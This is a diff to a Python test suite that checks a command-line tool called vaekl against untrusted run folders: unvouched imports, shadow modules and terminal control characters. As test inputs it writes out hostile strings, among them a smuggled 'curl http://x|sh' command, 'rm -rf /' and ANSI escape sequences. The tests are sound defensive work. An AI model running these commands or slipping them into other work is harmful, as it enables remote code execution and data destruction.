@@ -11,7 +11,7 @@ from itertools import product
 
 import pytest
 import yaml
-from cli_helpers import SMALL, contents, finished, process, refused, trained, vaekl
+from cli_helpers import SMALL, contents, refused, trained, vaekl
 
 MINE = """
 from pathlib import Path
@@ -92,24 +92,26 @@ def test_tags_hide_nothing(tag, target, run, tmp_path):
 
 def test_what_is_vouched_for_is_called_and_nothing_else(tmp_path):
     (tmp_path / "mine.py").write_text("import os\n" + MINE)
+    words = [sys.executable, "-P", "-m", "vaekl"]  # -P: as the installed command, whose path does not begin here
 
-    def run(*words):
-        answer = finished(process(tmp_path, *words, here=False))
+    def run(*more):
+        environment = {**os.environ, "OMP_NUM_THREADS": "1"}
+        answer = subprocess.run([*words, *more], cwd=tmp_path, capture_output=True, text=True, env=environment)
         ran = (tmp_path / "ran").exists()
         (tmp_path / "ran").unlink(missing_ok=True)
         return answer, ran
 
     small = ("trainer.steps=2", "trainer.valid_every=2", "model.hidden=[4]", "hydra.run.dir=run")
     answer, ran = run("train", "likelihood=custom", "likelihood._target_=mine.Mine", *small)
-    assert (answer.code, ran) == (0, True), answer.err
+    assert (answer.returncode, ran) == (0, True), answer.stderr
     answer, ran = run("eval", "run", "eval.k=1", "--trust", "min")
-    assert answer.code == 1 and "'mine.Mine' called" in answer.err and "--trust mine" in answer.err
+    assert answer.returncode == 1 and "'mine.Mine' called" in answer.stderr and "--trust mine" in answer.stderr
     assert not ran
     answer, ran = run("eval", "run", "eval.k=1", "--trust", "mine")
-    assert (answer.code, ran) == (0, True), answer.err
+    assert (answer.returncode, ran) == (0, True), answer.stderr
     stranger(tmp_path / "run", "likelihood", {"_target_": "mine.os.mkdir", "path": "made"})
     answer, _ = run("eval", "run", "eval.k=1", "--trust", "mine")
-    assert answer.code == 1 and "'mine.os.mkdir' called" in answer.err
+    assert answer.returncode == 1 and "'mine.os.mkdir' called" in answer.stderr
     assert not (tmp_path / "made").exists()
 
 
@@ -119,12 +121,12 @@ def test_what_lies_in_a_strangers_folder_is_not_imported(run, tmp_path):
     for name in ("tensorflow", "tqdm", "pandas", "psutil", "pynvml", "colorama", "gmpy2", "defusedxml", "triton"):
         (folder / f"{name}.py").write_text("from pathlib import Path\nPath('ran').touch()\nraise ImportError\n")
     (folder / "results.json").unlink()
-    both = f"import sys; from vaekl.cli import main; sys.exit(main(['resume', '.']) or main({['train', *SMALL]}))"
-    command, environment = [sys.executable, "-P", "-c", both], {**os.environ, "OMP_NUM_THREADS": "1"}
-    answer = subprocess.run(command, cwd=folder, capture_output=True, text=True, env=environment)
-    assert answer.returncode == 0, answer.stderr
-    assert (folder / "results.json").exists() and list(folder.glob("outputs/*/results.json"))
-    assert not (folder / "ran").exists()
+    environment = {**os.environ, "OMP_NUM_THREADS": "1"}
+    for verb in (["resume", "."], ["train", "hydra.run.dir=new", *SMALL]):
+        command = [sys.executable, "-P", "-m", "vaekl", *verb]
+        answer = subprocess.run(command, cwd=folder, capture_output=True, text=True, env=environment)
+        assert answer.returncode == 0, answer.stderr
+        assert not (folder / "ran").exists()
 
 
 @pytest.mark.parametrize("library", ["os", "torch", "torch.optim", "vaekl", "numpy", "hydra.utils"])
@@ -191,16 +193,20 @@ def test_nothing_is_written_through_a_link(verb, link, run, tmp_path):
 def test_control_characters_do_not_reach_the_terminal(run, tmp_path):
     """They clear the screen, name the window, fill the clipboard; and a command to be pasted is one command."""
     folder = shutil.copytree(run, tmp_path / "run")
-    file = folder / "versions.json"
+    file = folder / "facts.json"
     facts = json.loads(file.read_text())
     facts["command"] = "vaekl train\n\x1b[2Jevil; curl http://x|sh"
     facts["likelihood"]["name"] = "\x1b]0;pwn\x07\x1b[31mX\x9b"
     file.write_text(json.dumps(facts))
-    answer = vaekl(tmp_path, "audit", "run")
-    assert answer.code == 0
-    assert not set(answer.out) & {chr(code) for code in (*range(10), *range(11, 32), *range(127, 160))}
-    pasted = next(line for line in answer.out.splitlines() if "curl" in line)
+    refused(vaekl(tmp_path, "audit", "run"), "facts.json", "control characters")
+    facts["likelihood"]["name"], facts["command"] = "cb", "vaekl train x; curl http://x|sh"
+    file.write_text(json.dumps(facts))
+    pasted = next(line for line in vaekl(tmp_path, "audit", "run").out.splitlines() if "curl" in line)
     assert shlex.split(pasted.partition("train it")[2])[-1] == "http://x|sh" and "'http://x|sh'" in pasted
+    facts["command"] = "rm -rf /"
+    file.write_text(json.dumps(facts))
+    answer = vaekl(tmp_path, "audit", "run")
+    assert answer.code == 0 and "rm -rf" not in answer.out
 
 
 def test_a_report_obeys_no_matplotlibrc_of_a_stranger(run, tmp_path):
@@ -232,4 +238,4 @@ def test_results_name_only_the_run_s_own_checkpoints(weights, run, tmp_path):
     folder = shutil.copytree(run, tmp_path / "run")
     figures = json.loads((folder / "results.json").read_text()) | {"weights": weights}
     (folder / "results.json").write_text(json.dumps(figures))
-    refused(vaekl(tmp_path, "eval", "run"), "results.json", "no checkpoint")
+    refused(vaekl(tmp_path, "eval", "run"), "results.json", "weights")
